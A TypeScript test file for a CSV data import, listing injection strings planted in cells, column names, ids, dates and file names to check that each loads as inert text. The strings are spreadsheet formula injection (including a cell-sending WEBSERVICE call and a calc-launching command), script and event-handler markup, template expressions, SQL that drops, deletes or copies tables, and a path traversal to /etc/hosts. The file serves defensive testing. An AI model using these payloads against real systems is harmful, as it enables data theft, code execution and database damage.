import { entries, loads, warns } from '../expectation';
import { but, cellsOf, header, people, table, truth } from '../people';
import { delimited } from '../text';

/** The first person's site is `text`, and so is the name of one more column and all its cells. */
const planted = (text: string): string =>
  delimited(table(but(0, { site: text })).map((row) => [...row, text]));
/** A letter and the accents on it are one text, however they are written. */
const right = (text: string) => loads(truth(but(0, { site: text.normalize('NFC') })));

const scheme = 'javascript';
const strings: readonly (readonly [id: string, what: string, text: string])[] = [
  ['formula', 'a formula', '=1+1'],
  ['command', 'a formula that would start a program', "=cmd|' /C calc'!A0"],
  ['link', 'a formula that would fetch an address', '=HYPERLINK("https://example.org/?"&A1,"open")'],
  ['web-service', 'a formula that would send a cell', '=WEBSERVICE("https://example.org/"&A2)'],
  ['at-sign', 'a text that begins with an at sign', '@SUM(1+1)*cmd'],
  ['minus', 'a text that begins with a minus', "-2+3+cmd|' /C calc'!A0"],
  ['script', 'a script element', '<script>globalThis.ran = true</script>'],
  ['image', 'an image that fails and then runs', '<img src=x onerror="globalThis.ran=true">'],
  ['vector', 'a drawing that runs when shown', '<svg/onload=globalThis.ran=true>'],
  ['frame', 'a frame', '<iframe src="https://example.org/"></iframe>'],
  ['style', 'a style that would fetch', '<style>@import url(https://example.org/a.css)</style>'],
  ['address', 'an address that is a script', `${scheme}:globalThis.ran=true`],
  ['template', 'a template expression', '${globalThis.ran = true}{{constructor.constructor("ran=1")()}}'],
  ['sql', 'SQL that ends a statement', `'; DROP TABLE person; --`],
  ['sql-name', 'SQL that ends a quoted name', `x"; DELETE FROM episode; --`],
  [
    'sql-read',
    'SQL that would fetch an address',
    `' || (SELECT * FROM read_csv('https://example.org/')) || '`,
  ],
  ['sql-copy', 'SQL that would write a file', `"; COPY person TO 'out.csv'; --`],
  ['override', 'an override of the writing direction', '\u202eedisrevir\u202c'],
  ['emoji', 'joined pictures and flags', '👩‍👩‍👧‍👦 🏴󠁧󠁢󠁷󠁬󠁳󠁿'],
  ['half-letter', 'a stack of accents', `a${'\u0301'.repeat(200)}`],
  ['path', 'a path out of a folder', '../../../../etc/hosts'],
  ['format', 'marks of print formats', '%s%n%x %00 \\u0000 \\x00'],
  ['entity', 'entities', '&lt;b&gt; &#x3c;script&#x3e; &amp;amp;'],
];

const { sites: _sites, ...noSites } = truth();

export const injection = entries('injection', [
  ...strings.map(
    ([id, what, text]) =>
      [
        id,
        'people.csv',
        `${what} in a cell and in a column name is only text`,
        () => planted(text),
        // Signs that nobody sees may be taken off or shown: only the counts and the scores are pinned for them.
        /[\u202a-\u202e]/.test(text) ? loads(noSites) : right(text),
      ] as const,
  ),
  [
    'separators',
    'people.csv',
    'the separators that programs use among themselves are no separators in a cell',
    () => delimited(table(but(0, { site: 'a\u001eb\u001fc\u001d' }))),
    loads(noSites),
  ],
  [
    'separators-in-scores',
    'scores.csv',
    'a score with such a separator in it is no number, and no part of it is one',
    () =>
      delimited([
        ['client_ref', 'tool', 'question', 'stage', 'score'],
        ...people.flatMap(({ id, first }, at) => [
          [id, 'UCLA', 'Total', 'Baseline', at === 2 ? '3\u001e5' : String(first)],
          [id, 'UCLA', 'Total', 'Exit', '4'],
        ]),
      ]),
    warns(['not_a_number', 'out_of_range'], {
      rowsUsed: 24,
      rowsAside: 0,
      persons: 12,
      scores: 12 + people.filter(({ first }, at) => at !== 2 && first !== null && first >= 3).length,
    }),
  ],
  [
    'in-score-names',
    'people.csv',
    'markup around the name of a score column is only text, and the column may still be known',
    () => delimited([header.map((name) => `<b>${name}</b>`), ...people.map((one) => cellsOf(one))]),
    { outcome: 'asks' },
  ],
  [
    'in-ids',
    'people.csv',
    'ids that are SQL are ids',
    () => delimited(table(people.map((one) => ({ ...one, id: `${one.id}'; DROP TABLE person; --` })))),
    loads(truth(people, { ids: people.map(({ id }) => `${id}'; DROP TABLE person; --`) })),
  ],
  [
    'in-scores',
    'people.csv',
    'a script where a score should be is told as no number',
    () =>
      delimited(table().map((row, line) => (line === 3 ? [...row.slice(0, 6), '<script>6</script>'] : row))),
    warns('not_a_number', truth(but(2, { last: null }))),
  ],
  [
    'in-dates',
    'people.csv',
    'SQL where a date should be is told as no date',
    () =>
      delimited(
        table().map((row, line) => (line === 3 ? [row[0] ?? '', `'::DATE; --`, ...row.slice(2)] : row)),
      ),
    warns('bad_date', truth(people, { referred: { n: 11, earliest: '2023-04-03', latest: '2023-10-30' } })),
  ],
  [
    'in-file-name',
    `'; DROP TABLE person; --<img src=x onerror=ran>.csv`,
    'a file name that is SQL and markup is only a name',
    () => delimited(table()),
    loads(truth()),
  ],
]);
